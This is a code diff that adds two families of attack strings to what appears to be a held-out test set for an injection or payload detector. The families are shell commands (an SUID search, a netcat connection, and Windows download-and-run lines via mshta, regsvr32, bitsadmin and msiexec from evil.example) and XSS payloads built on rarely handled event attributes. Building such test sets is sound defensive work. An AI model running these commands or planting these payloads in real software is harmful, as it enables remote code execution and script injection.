@@ -146,4 +146,23 @@ export const UNSEEN_FAMILIES: Readonly<Record<string, readonly string[]>> = {
     'query{lamp lamp lamp lamp lamp lamp lamp lamp lamp}',
     'fragment A on Q{...B} fragment B on Q{...A} query{...A}',
   ],
+  'commands: nothing before them': [
+    'ls -la',
+    'find / -perm -4000',
+    'find . -name config.php',
+    'ping -c 9 198.51.100.7',
+    'busybox nc 198.51.100.7 4444',
+    'mshta http://evil.example/a.hta',
+    'regsvr32 /s /u /i:http://evil.example/a.sct scrobj.dll',
+    'bitsadmin /transfer lamp http://evil.example/a.exe c:\\a.exe',
+    'msiexec /q /i http://evil.example/a.msi',
+    'for /f %a in (lamps.txt) do @type %a',
+  ],
+  'XSS: events that few pages handle': [
+    '" oncontentvisibilityautostatechange="a(7)" style="',
+    'autofocus onslotchange=fetch(name)',
+    'x" onstalled=alert(7) y="',
+    "' oncuechange=import('//evil.example') '",
+    'autofocus onsecuritypolicyviolation=fetch(name)',
+  ],
 };
